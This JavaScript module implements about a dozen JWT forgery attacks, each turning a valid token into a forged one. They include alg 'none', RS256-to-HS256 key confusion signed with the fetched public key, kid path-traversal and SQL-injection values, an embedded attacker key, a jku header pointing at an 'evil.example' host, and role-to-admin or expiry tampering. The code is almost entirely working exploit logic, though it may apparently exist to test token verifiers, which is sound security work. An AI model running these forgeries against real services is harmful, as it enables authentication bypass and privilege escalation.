// The classic attacks on a JWT, each as a change of the token at hand.

import { encode, encodeJson, encodeText, parse } from "./jws.js";

const join = (...segments) => segments.join(".");

/** The token with another header, everything else as it was. */
const withHeader = (parsed, change) => join(encodeJson({ ...parsed.header.value, ...change }), parsed.segments[1], parsed.segments[2]);
const withPayload = (parsed, change) => join(parsed.segments[0], encodeJson({ ...parsed.payload.value, ...change }), parsed.segments[2]);

/** The public key as a PEM, out of the JWK that everybody can fetch. */
export async function publicPem(jwk) {
  const key = await crypto.subtle.importKey("jwk", { kty: jwk.kty, n: jwk.n, e: jwk.e }, { name: "RSASSA-PKCS1-v1_5", hash: "SHA-256" }, true, ["verify"]);
  const spki = new Uint8Array(await crypto.subtle.exportKey("spki", key));
  const body = btoa(String.fromCharCode(...spki)).match(/.{1,64}/g).join("\n");
  return `-----BEGIN PUBLIC KEY-----\n${body}\n-----END PUBLIC KEY-----\n`;
}

async function confuse(parsed, jwks) {
  const jwk = jwks.keys.find((key) => key.kid === parsed.header.value.kid) ?? jwks.keys[0];
  const pem = await publicPem(jwk);
  const head = encodeJson({ ...parsed.header.value, alg: "HS256" });
  const body = encodeJson({ ...parsed.payload.value, role: "admin" });
  return join(head, body, encode(await hmac(new TextEncoder().encode(pem), `${head}.${body}`)));
}

async function ownKey(parsed) {
  const pair = await crypto.subtle.generateKey({ name: "ECDSA", namedCurve: "P-256" }, true, ["sign", "verify"]);
  const { kty, crv, x, y } = await crypto.subtle.exportKey("jwk", pair.publicKey);
  const head = encodeJson({ ...parsed.header.value, alg: "ES256", jwk: { kty, crv, x, y } });
  const body = encodeJson({ ...parsed.payload.value, role: "admin" });
  const signature = await crypto.subtle.sign({ name: "ECDSA", hash: "SHA-256" }, pair.privateKey, new TextEncoder().encode(`${head}.${body}`));
  return join(head, body, encode(new Uint8Array(signature)));
}

function duplicated(parsed) {
  const text = JSON.stringify(parsed.payload.value).replace(/^\{/, '{"role":"admin",');
  return join(parsed.segments[0], encodeText(text), parsed.segments[2]);
}

function bent(parsed) {
  const last = parsed.segments[2];
  const other = last.at(-6) === "A" ? "B" : "A";
  return join(parsed.segments[0], parsed.segments[1], last.slice(0, -6) + other + last.slice(-5));
}

/** An HMAC-SHA-256 over text, under a key of any bytes. */
async function hmac(keyBytes, text) {
  const key = await crypto.subtle.importKey("raw", keyBytes, { name: "HMAC", hash: "SHA-256" }, false, ["sign"]);
  return new Uint8Array(await crypto.subtle.sign("HMAC", key, new TextEncoder().encode(text)));
}

/** How each attack changes a token. */
const FORGE = {
  none: (parsed) => join(encodeJson({ ...parsed.header.value, alg: "none" }), encodeJson({ ...parsed.payload.value, role: "admin" }), ""),
  confusion: confuse,
  "kid-path": (parsed) => withHeader(parsed, { kid: "../../../../dev/null" }),
  "kid-sql": (parsed) => withHeader(parsed, { kid: "x' OR '1'='1" }),
  "own-key": ownKey,
  "far-key": (parsed) => withHeader(parsed, { jku: "https://evil.example/keys.json" }),
  promote: (parsed) => withPayload(parsed, { role: "admin" }),
  prolong: (parsed) => withPayload(parsed, { exp: parsed.payload.value.exp + 31536000 }),
  strip: (parsed) => join(parsed.segments[0], parsed.segments[1], ""),
  bend: bent,
  twice: duplicated,
  pad: (parsed) => `${parsed.token}=`,
  crit: (parsed) => withHeader(parsed, { crit: ["exp"] }),
};

/** Forges, from a good token. */
export const forge = (attack, token, jwks) => FORGE[attack.id](parse(token), jwks);
